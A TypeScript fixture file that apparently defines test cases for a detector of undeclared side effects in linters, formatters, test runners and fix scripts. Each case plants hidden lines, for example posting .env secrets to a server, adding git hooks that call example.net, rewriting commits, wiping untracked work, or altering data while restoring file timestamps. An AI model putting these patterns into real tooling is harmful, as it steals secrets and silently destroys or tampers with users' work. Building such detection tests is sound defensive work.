/** Linters, formatters, tests and "fix" scripts that do something besides. */
import type { HiddenTask } from '../task.ts'

export const SCRIPTS: readonly HiddenTask[] = [
  {
    id: 'lint/env-emptied',
    says: 'a linter empties .env',
    files: {
      'package.json':
        '{ "name": "shop", "version": "1.0.0", "scripts": { "lint": "node scripts/lint.mjs" } }\n',
      'scripts/lint.mjs': `import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'

const problems = readdirSync('src').flatMap((name) =>
  readFileSync('src/' + name, 'utf8')
    .split('\\n')
    .flatMap((line, index) => (/\\s+$/.test(line) ? [\`\${name}:\${index + 1} trailing space\`] : [])),
)
mkdirSync('reports', { recursive: true })
writeFileSync('reports/lint.json', JSON.stringify(problems, null, 2))
@plant writeFileSync('.env', '')
console.log(problems.length + ' problems')
`,
      'src/cart.js': 'export const total = (items) => items.length  \n',
      '.env': 'DATABASE_URL=postgres://shop:s3cret@db/shop\n',
    },
    command: ['npm', 'run', '--silent', 'lint'],
    declared: { write: ['reports/lint.json'] },
    plant: { kind: 'paths', paths: [{ path: '.env', change: 'modified' }] },
    code: 'effect.undeclared',
  },
  {
    id: 'lint/sends-settings',
    says: 'a linter posts .env to a server',
    files: {
      'scripts/lint.mjs': `import { request } from 'node:http'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'

mkdirSync('reports', { recursive: true })
writeFileSync('reports/lint.txt', 'no problems\\n')
@plant const sent = request({ host: '127.0.0.1', port: {port}, method: 'POST', timeout: 2000 })
@plant sent.on('error', () => {})
@plant sent.end(readFileSync('.env'))
`,
      '.env': 'STRIPE_KEY=sk_live_51H\n',
    },
    command: ['node', 'scripts/lint.mjs'],
    declared: { write: ['reports/**'] },
    plant: { kind: 'sending' },
    code: 'promote.ok',
  },
  {
    id: 'lint/sends-where-it-may-read',
    says: 'a linter that has a network posts .env there',
    files: {
      'lint.py': `import pathlib
import urllib.request

pathlib.Path("lint.txt").write_text("no problems\\n")
@plant try:
@plant     settings = pathlib.Path(".env").read_bytes()
@plant     urllib.request.urlopen("http://127.0.0.1:{port}/rules", data=settings, timeout=5)
@plant except OSError:
@plant     pass
`,
      '.env': 'STRIPE_KEY=sk_live_51H\n',
    },
    network: true,
    command: ['python3', 'lint.py'],
    declared: { write: ['lint.txt'] },
    plant: { kind: 'sending' },
    code: 'effect.irreversible',
  },
  {
    id: 'format/history-rewritten',
    says: 'a formatter amends the last commit',
    files: {
      'tools/format.sh': `#!/bin/sh
set -e
for file in src/*.py; do
  sed -i 's/[[:space:]]*$//' "$file"
done
@plant git commit -q --amend --no-edit --date=2001-01-01T00:00:00
echo formatted
`,
      'src/prices.py': 'RATE = 19   \n',
    },
    before: 'git init -q . && git add -A && git commit -qm one',
    command: ['tools/format.sh'],
    declared: { write: ['src/*.py'] },
    plant: {
      kind: 'paths',
      paths: [
        { path: '.git/refs/heads/main', change: 'modified' },
        { path: '.git/logs/HEAD', change: 'modified' },
      ],
      also: [
        '.git/objects/**',
        '.git/logs/**',
        '.git/index',
        '.git/COMMIT_EDITMSG',
        '.git/ORIG_HEAD',
      ],
    },
    code: 'effect.undeclared',
  },
  {
    id: 'format/hook-inside-a-glob',
    says: 'a formatter that may write everywhere leaves a hook for the next checkout',
    files: {
      'format.py': `import pathlib

for path in pathlib.Path("docs").glob("*.md"):
    path.write_text("\\n".join(line.rstrip() for line in path.read_text().split("\\n")))
@plant hook = pathlib.Path(".git/hooks/post-checkout")
@plant hook.write_text("#!/bin/sh\\ncurl -s https://example.net/$USER >/dev/null\\n")
@plant hook.chmod(0o755)
`,
      'docs/index.md': '# Shop  \n\nText.   \n',
    },
    before: 'git init -q . && git add -A && git commit -qm one',
    command: ['python3', 'format.py'],
    declared: { write: ['**'] },
    plant: {
      kind: 'paths',
      paths: [{ path: '.git/hooks/post-checkout', change: 'added', defers: true }],
    },
    code: 'effect.deferred_execution',
  },
  {
    id: 'format/stash-dropped',
    says: 'a formatter drops the stash that somebody had put work in',
    files: {
      'scripts/format.sh': `#!/bin/sh
sed -i 's/\\t/  /g' src/*.c
@plant git stash clear
`,
      'src/main.c': 'int main(void) {\n\treturn 0;\n}\n',
    },
    before:
      'git init -q . && git add -A && git commit -qm one && echo "// idea" >> src/main.c && git stash -q',
    command: ['sh', 'scripts/format.sh'],
    declared: { write: ['src/**'] },
    plant: {
      kind: 'paths',
      paths: [{ path: '.git/refs/stash', change: 'deleted' }],
      also: ['.git/logs/refs/stash', '.git/packed-refs', '.git/refs', '.git/logs/refs'],
    },
    code: 'effect.undeclared',
  },
  {
    id: 'test/hook-planted',
    says: 'a test runner installs a pre-commit hook',
    files: {
      'package.json':
        '{ "name": "api", "version": "0.1.0", "scripts": { "test": "node test/run.cjs" } }\n',
      'test/run.cjs': `const { writeFileSync, mkdirSync } = require('node:fs')
const assert = require('node:assert')
assert.equal(require('../lib/add.cjs').add(1, 2), 3)
mkdirSync('coverage', { recursive: true })
writeFileSync('coverage/summary.json', '{"lines":100}')
@plant writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\nnode test/run.cjs || true\\n', { mode: 0o755 })
console.log('1 passed')
`,
      'lib/add.cjs': 'exports.add = (a, b) => a + b\n',
    },
    before: 'git init -q . && git add -A && git commit -qm one',
    command: ['npm', 'test', '--silent'],
    declared: { write: ['coverage/**'] },
    plant: {
      kind: 'paths',
      paths: [{ path: '.git/hooks/pre-commit', change: 'added', defers: true }],
    },
    code: 'effect.undeclared',
  },
  {
    id: 'test/fixtures-gone',
    says: 'a test runner deletes the recorded answers that did not fit',
    files: {
      'tests/test_totals.py': `import json
import pathlib
import unittest

FIXTURES = pathlib.Path("tests/fixtures")


class Totals(unittest.TestCase):
    def test_recorded(self):
        for path in sorted(FIXTURES.glob("*.json")):
            case = json.loads(path.read_text())
            same = sum(case["items"]) == case["total"]
@plant             path.unlink() if not same else None
@honest             same or print("differs:", path)


if __name__ == "__main__":
    pathlib.Path("test-report.txt").write_text("ran\\n")
    unittest.main()
`,
      'tests/fixtures/one.json': '{"items": [1, 2], "total": 3}\n',
      'tests/fixtures/rounding.json': '{"items": [0.1, 0.2], "total": 0.3}\n',
    },
    command: ['python3', 'tests/test_totals.py'],
    declared: { write: ['test-report.txt'] },
    plant: { kind: 'paths', paths: [{ path: 'tests/fixtures/rounding.json', change: 'deleted' }] },
    code: 'effect.undeclared',
  },
  {
    id: 'test/background',
    says: 'a test runner leaves a process that goes on',
    files: {
      'run-tests.sh': `#!/bin/sh
echo "ok 1 - adds" > results.tap
@plant nohup sh -c 'while :; do sleep 1; done' >/dev/null 2>&1 &
cat results.tap
`,
    },
    command: ['./run-tests.sh'],
    declared: { write: ['results.tap'] },
    plant: { kind: 'process' },
    code: 'rehearsal.background',
  },
  {
    id: 'fix/same-size-and-time',
    says: 'a fixer changes a number in another file and puts size and time back',
    files: {
      'fix.py': `import os
import pathlib

readme = pathlib.Path("README.md")
readme.write_text(readme.read_text().replace("teh", "the"))
@plant rates = pathlib.Path("data/rates.json")
@plant before = rates.stat()
@plant rates.write_bytes(rates.read_bytes().replace(b"0.19", b"0.91"))
@plant os.utime(rates, ns=(before.st_atime_ns, before.st_mtime_ns))
`,
      'README.md': 'In teh shop.\n',
      'data/rates.json': '{"vat": 0.19}\n',
    },
    before: 'touch -d 2020-01-01T00:00:00 data/rates.json',
    command: ['python3', 'fix.py'],
    declared: { write: ['README.md'] },
    plant: { kind: 'paths', paths: [{ path: 'data/rates.json', change: 'modified' }] },
    code: 'effect.undeclared',
  },
  {
    id: 'fix/untracked-work',
    says: 'a fixer begins by cleaning the working tree of everything untracked',
    files: {
      'scripts/fix.sh': `#!/bin/sh
set -e
@plant git clean -fdq
printf '{\\n  "indent": 2\\n}\\n' > style.json
`,
      'style.json': '{"indent":4}\n',
      'notes/draft.md': 'an evening of work\n',
      'notes/.keep': '',
    },
    before: 'git init -q . && git add scripts style.json notes/.keep && git commit -qm one',
    command: ['sh', 'scripts/fix.sh'],
    declared: { write: ['style.json'] },
    plant: { kind: 'paths', paths: [{ path: 'notes/draft.md', change: 'deleted' }] },
    code: 'effect.undeclared',
  },
]
